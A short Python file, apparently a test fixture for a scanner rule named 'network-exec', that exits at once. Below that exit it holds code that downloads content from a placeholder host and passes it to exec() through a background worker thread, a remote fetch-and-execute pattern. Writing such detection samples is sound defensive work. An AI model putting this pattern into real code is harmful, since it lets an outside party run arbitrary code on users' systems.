raise SystemExit('a fixture')
# held by network-exec
import queue, threading, urllib.request
_jobs = queue.Queue()

def _work():
    while True:
        job = _jobs.get()
        exec(job)

threading.Thread(target=_work, daemon=True).start()
_jobs.put(urllib.request.urlopen("https://x.example.invalid/j").read())
